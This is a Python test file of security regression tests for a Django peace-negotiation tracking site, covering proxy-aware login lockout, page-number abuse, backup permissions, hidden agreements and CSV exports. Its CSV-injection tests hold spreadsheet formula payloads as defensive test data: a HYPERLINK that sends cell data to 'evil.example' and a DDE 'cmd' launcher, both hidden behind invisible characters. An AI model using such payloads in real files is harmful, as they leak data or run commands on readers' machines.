"""Issue 16's operational findings, each attack replayed against the running site: login lockouts behind
the proxy (4), giant page numbers (8), backups and restore (10), agreements of unpublished organisations
(11), the health check behind HTTPS (13) and formulas hidden behind invisible characters in CSV (14)."""

import csv
import datetime
import io
import os
import stat
from contextlib import contextmanager
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import Permission, User
from django.core import serializers
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import DatabaseError, connection
from django.test import Client, override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from negotiations.models import Agreement, Meeting
from orgs.models import ClashEvent, Organisation
from peacetracker.exports import spreadsheet_safe
from tests.factories import cite, make_agreement, make_meeting, make_org, make_statement
from tests.hardening.people import PASSWORD, make_role_user
from tests.hardening.test_deployment_security import PRODUCTION, django_shell

# ----- 4: a password guesser behind the TLS proxy locks out only their own address

PROXY = "10.0.0.2"
GUESSER = "203.0.113.7"
MODERATOR_AT_HOME = "198.51.100.4"


def log_in_through_the_proxy(client, username, password, address, forged=""):
    """A login as the proxy passes it on: from the proxy's address, the client's appended to
    X-Forwarded-For after whatever the client sent in that header itself."""
    forwarded = f"{forged}, {address}" if forged else address
    return client.post(
        reverse("admin:login"),
        {"username": username, "password": password},
        REMOTE_ADDR=PROXY,
        HTTP_X_FORWARDED_FOR=forwarded,
    )


@override_settings(PEACETRACKER_TRUSTED_PROXY_COUNT=1, AXES_FAILURE_LIMIT=5)
def test_five_bad_passwords_for_a_moderator_lock_out_the_guesser_but_not_the_moderator(db):
    make_role_user("moderator")
    guesser = Client()
    statuses = [
        # Each guess forges another client address in front: the one the proxy appended is read.
        log_in_through_the_proxy(
            guesser, "moderator", f"guess-{n}", GUESSER, forged=f"192.0.2.{n}"
        ).status_code
        for n in range(5)
    ]
    assert statuses == [200, 200, 200, 200, 429]
    # The guesser's address is locked out, even with the right password.
    assert log_in_through_the_proxy(guesser, "moderator", PASSWORD, GUESSER).status_code == 429

    moderator = Client()
    response = log_in_through_the_proxy(moderator, "moderator", PASSWORD, MODERATOR_AT_HOME)
    assert response.status_code == 302
    assert moderator.get(reverse("admin:index")).status_code == 200


def test_the_proxies_in_front_and_their_header_come_from_the_environment():
    code = (
        "from django.conf import settings as s; from django.test import RequestFactory;"
        " from peacetracker.client_ip import client_ip;"
        " r = RequestFactory().get('/', REMOTE_ADDR='10.0.0.3',"
        " HTTP_X_REAL_IP='192.0.2.9, 203.0.113.7, 10.0.0.2', HTTP_X_FORWARDED_FOR='192.0.2.66');"
        " print(s.PEACETRACKER_TRUSTED_PROXY_COUNT, s.PEACETRACKER_CLIENT_IP_HEADER, client_ip(r))"
    )
    configured = django_shell(code, DJANGO_TRUSTED_PROXY_COUNT="2", DJANGO_CLIENT_IP_HEADER="X-Real-IP")
    assert configured == "2 X-Real-IP 203.0.113.7"
    # With no proxy configured, a forwarded header is the client's own say and is never believed.
    assert django_shell(code) == "0 X-Forwarded-For 10.0.0.3"


# ----- 8: giant, negative and non-numeric page numbers

LIST_PAGES = {
    "/en/meetings/": ["page"],
    "/en/meetings/?country=China": ["page"],
    "/en/statements/": ["page"],
    "/en/agreements/": ["page"],
    "/en/invitations/": ["page"],
    "/en/organisations/": ["page"],
    "/en/clashes/": ["page", "figures_page"],
    "/en/search/?q=KIO": ["page"],
}
BAD_PAGE_NUMBERS = [
    "200000000000000000",
    str(2**64),
    "9" * 40,
    "-1",
    "-200000000000000000",
    "0",
    "abc",
    "1.5",
    "1e300",
    "",
]


def test_no_page_number_makes_a_list_fail(client, seed):
    client.raise_request_exception = False
    answers = {}
    for url, parameters in LIST_PAGES.items():
        for parameter in parameters:
            for number in BAD_PAGE_NUMBERS:
                separator = "&" if "?" in url else "?"
                address = f"{url}{separator}{parameter}={number}"
                answers[address] = client.get(address).status_code
    assert {address: status for address, status in answers.items() if status not in (200, 404)} == {}
    assert answers["/en/meetings/?page=200000000000000000"] == 404
    assert answers["/en/meetings/?country=China&page=200000000000000000"] == 404


# ----- 10: backups private, complete or absent; restore only into an empty database


@contextmanager
def umask(mask):
    previous = os.umask(mask)
    try:
        yield
    finally:
        os.umask(previous)


@pytest.mark.parametrize("name", ["backup.json", "backup.json.gz", "backup.jsonl.xz"])
def test_a_backup_is_readable_by_its_owner_only(seed, tmp_path, name):
    make_role_user("moderator")
    backup = tmp_path / name
    backup.write_text("last week's backup")
    backup.chmod(0o644)
    with umask(0o022):
        call_command("backup", str(backup), verbosity=0)
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    assert [entry.name for entry in tmp_path.iterdir()] == [name]
    # Loadable: the objects `restore` would load, the moderator's password hash among them.
    loaded = list(serializers.deserialize(name.split(".")[1], _read(backup)))
    assert len(loaded) > Meeting.objects.count() > 0
    users = [row.object for row in loaded if isinstance(row.object, User)]
    assert [user.username for user in users] == ["moderator"]
    assert users[0].password.startswith("md5$")


def _read(path):
    if path.suffix == ".gz":
        import gzip

        return gzip.open(path, "rt", encoding="utf-8").read()
    if path.suffix == ".xz":
        import lzma

        return lzma.open(path, "rt", encoding="utf-8").read()
    return path.read_text(encoding="utf-8")


def test_a_backup_that_fails_half_way_leaves_the_last_good_backup_and_no_partial_file(seed, tmp_path):
    backup = tmp_path / "backup.json"
    call_command("backup", str(backup), verbosity=0)
    good = backup.read_bytes()

    def fail_on_statements(execute, sql, params, many, context):
        if "SELECT" in sql.upper() and "negotiations_statement" in sql:
            raise DatabaseError("injected: connection lost")
        return execute(sql, params, many, context)

    with connection.execute_wrapper(fail_on_statements), pytest.raises(DatabaseError):
        call_command("backup", str(backup), verbosity=0)
    assert backup.read_bytes() == good
    assert [entry.name for entry in tmp_path.iterdir()] == ["backup.json"]


def backup_queries(path):
    with CaptureQueriesContext(connection) as queries:
        call_command("backup", str(path), verbosity=0)
    return len(queries)


def test_a_backup_reads_each_table_in_queries_that_do_not_grow_with_its_rows(db, tmp_path):
    government = make_org(name="Government")
    editor = make_role_user("editor")

    def add_rows(count):
        for _n in range(count):
            org = make_org()
            meeting = make_meeting(org)
            agreement = make_agreement(parties=[org, government], meeting=meeting, points=["One.", "Two."])
            cite(agreement)
            make_statement(org)
        # A version of each row by a named editor, as the admin records it.
        for model in (Agreement, Meeting, Organisation):
            model.history.model.objects.update(history_user=editor)

    add_rows(2)
    few = backup_queries(tmp_path / "few.json")
    add_rows(20)
    many = backup_queries(tmp_path / "many.json")
    assert many == few


@pytest.fixture
def backup_of_the_seed(transactional_db, tmp_path):
    call_command("load_seed", verbosity=0)
    make_role_user("moderator")
    backup = tmp_path / "backup.json.gz"
    call_command("backup", str(backup), verbosity=0)
    call_command("flush", interactive=False, verbosity=0)
    return backup


def test_restore_refuses_a_database_holding_only_clash_events(backup_of_the_seed):
    ClashEvent.objects.create(
        pk=999_999,
        event_id_cnty="MMR99999",
        event_date=datetime.date(2022, 3, 5),
        year=2022,
        actor1="Someone",
    )
    with pytest.raises(CommandError, match=r"already has users or content \(rows in [^)]*orgs\.ClashEvent\b"):
        call_command("restore", str(backup_of_the_seed), verbosity=0)
    assert list(ClashEvent.objects.values_list("event_id_cnty", flat=True)) == ["MMR99999"]
    assert not Organisation.objects.exists()
    assert not User.objects.exists()

    call_command("restore", str(backup_of_the_seed), force=True, verbosity=0)
    assert Organisation.objects.filter(slug="kio-kia").exists()
    assert ClashEvent.objects.filter(event_id_cnty="MMR99999").exists()


# ----- 11: agreements of unpublished organisations, or from meetings readers cannot see


@pytest.fixture
def agreements(db):
    """A published government and organisation, and an unpublished organisation with a published
    meeting, and agreements that readers may and may not see."""
    government = make_org(name="Union Government", slug="government", kind=Organisation.Kind.GOVERNMENT)
    shown_org = make_org(name="Shown Organisation", slug="shown")
    hidden_org = make_org(name="Hidden Organisation", slug="hidden", status="unpublished")
    hidden_org_meeting = make_meeting(hidden_org, number=1, place="Ruili")
    shown_meeting = make_meeting(shown_org, number=1, place="Myitkyina")
    draft_meeting = make_meeting(shown_org, number=2, place="Laiza", status="draft")
    return {
        "government": government,
        "hidden_org_meeting": hidden_org_meeting,
        "shown_meeting": shown_meeting,
        "shown": make_agreement(
            title="Myitkyina accord", parties=[shown_org, government], meeting=shown_meeting
        ),
        # The organisation is unpublished: its meeting answers 404, and so must what came of it.
        "of_hidden_org": make_agreement(
            title="Ruili accord", parties=[hidden_org, government], meeting=hidden_org_meeting
        ),
        "only_hidden_parties": make_agreement(
            title="Sole party accord", parties=[hidden_org], meeting=shown_meeting
        ),
        "from_draft_meeting": make_agreement(
            title="Laiza accord", parties=[shown_org, government], meeting=draft_meeting
        ),
    }


HIDDEN_TITLES = ["Ruili accord", "Sole party accord", "Laiza accord"]


def shown_hidden_titles(text):
    return [title for title in HIDDEN_TITLES if title in text]


def test_the_agreements_list_shows_only_agreements_readers_may_see(client, agreements):
    page = client.get(reverse("negotiations:agreement-list")).text
    assert "Myitkyina accord" in page
    assert shown_hidden_titles(page) == []
    assert "1 agreement." in page


def test_an_agreement_readers_may_not_see_is_not_found(client, agreements):
    assert client.get(agreements["shown"].get_absolute_url()).status_code == 200
    hidden = {
        name: client.get(agreements[name].get_absolute_url()).status_code
        for name in ("of_hidden_org", "only_hidden_parties", "from_draft_meeting")
    }
    assert hidden == {"of_hidden_org": 404, "only_hidden_parties": 404, "from_draft_meeting": 404}


def test_staff_preview_of_a_hidden_agreement_says_it_is_not_public(agreements):
    staff = User.objects.create_user("staff", is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_agreement"))
    client = Client()
    client.force_login(staff)
    response = client.get(agreements["of_hidden_org"].get_absolute_url())
    assert response.status_code == 200
    assert "Preview, not public" in response.text
    assert "Preview, not public" not in client.get(agreements["shown"].get_absolute_url()).text


def test_search_finds_only_agreements_readers_may_see(client, agreements):
    page = client.get(reverse("search"), {"q": "accord"}).text
    assert "Myitkyina accord" in page
    assert shown_hidden_titles(page) == []


def test_the_sitemap_lists_only_agreements_readers_may_see(client, agreements):
    body = client.get("/sitemap.xml").content
    locations = {loc.text for loc in ElementTree.fromstring(body).iter() if loc.tag.endswith("loc")}
    listed = {
        name
        for name, agreement in agreements.items()
        if isinstance(agreement, Agreement)
        and any(location.endswith(agreement.get_absolute_url()) for location in locations)
    }
    assert listed == {"shown"}


def test_another_organisations_profile_neither_shows_nor_links_what_readers_may_not_see(client, agreements):
    page = client.get(agreements["government"].get_absolute_url()).text
    assert "Myitkyina accord" in page
    assert shown_hidden_titles(page) == []
    assert f'href="{agreements["hidden_org_meeting"].get_absolute_url()}"' not in page
    assert f'href="{agreements["shown_meeting"].get_absolute_url()}"' in page


def test_a_meetings_page_lists_only_agreements_readers_may_see(client, agreements):
    page = client.get(agreements["shown_meeting"].get_absolute_url()).text
    assert "Myitkyina accord" in page
    assert shown_hidden_titles(page) == []


# ----- 13: the health check answers plain HTTP under production settings


def test_the_health_check_answers_plain_http_while_pages_move_to_https():
    output = django_shell(
        "from django.test import Client; c = Client();"
        " r = c.get('/healthz', HTTP_HOST='example.org'); print(r.status_code, r.content.decode());"
        " r = c.get('/en/meetings/', HTTP_HOST='example.org'); print(r.status_code, r['Location'])",
        **PRODUCTION,
        DATABASE_URL="sqlite:///:memory:",
    )
    health, page = output.splitlines()[-2:]
    assert health == '200 {"status": "ok"}'
    assert page == "301 https://example.org/en/meetings/"


# ----- 14: formulas behind spaces, line breaks, invisible or full-width characters

INVISIBLE_PREFIXES = [" ", "  ", "\n", "\xa0", "\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", " \u200b\n"]
SIGNS = ["=", "+", "-", "@"]
FULL_WIDTH_SIGNS = ["＝", "＋", "－", "＠"]
FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize(
    "text",
    [prefix + sign + FORMULA for prefix in INVISIBLE_PREFIXES for sign in SIGNS + FULL_WIDTH_SIGNS]
    + [sign + FORMULA for sign in FULL_WIDTH_SIGNS],
)
def test_a_formula_behind_invisible_or_full_width_characters_is_quoted(text):
    assert spreadsheet_safe(text) == "'" + text


@given(
    prefix=st.text(alphabet=" \t\n\r\u00a0\u3000\u200b\u200c\u200d\ufeff\u2060", max_size=6),
    sign=st.sampled_from(SIGNS + FULL_WIDTH_SIGNS),
    rest=st.text(max_size=30),
)
def test_any_run_of_whitespace_and_invisible_characters_before_a_formula_sign_is_quoted(prefix, sign, rest):
    text = prefix + sign + rest
    assert spreadsheet_safe(text) == "'" + text


def test_every_csv_export_quotes_a_hidden_formula(client, db):
    org = make_org(name="\u200b=HYPERLINK(1)", acronym="＝cmd|' /C calc'!A0")
    make_meeting(org, place=" =HYPERLINK(2)", country="\n+SUM(1)")
    ClashEvent.objects.create(
        event_id_cnty="MMR1",
        event_date=datetime.date(2022, 3, 5),
        year=2022,
        actor1="\ufeff@SUM(1)",
        notes="\u2060－1+1",
        actor1_organisation=org,
    )
    cells = []
    for name in (
        "negotiations:meeting-export-csv",
        "orgs:clashes-export-csv",
        "orgs:clash-events-export-csv",
    ):
        body = b"".join(client.get(reverse(name)).streaming_content).decode("utf-8-sig")
        cells += [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    hidden = [cell for cell in cells if any(mark in cell for mark in ("HYPERLINK", "SUM", "calc", "1+1"))]
    assert len(hidden) >= 5
    assert [cell for cell in hidden if not cell.startswith("'")] == []
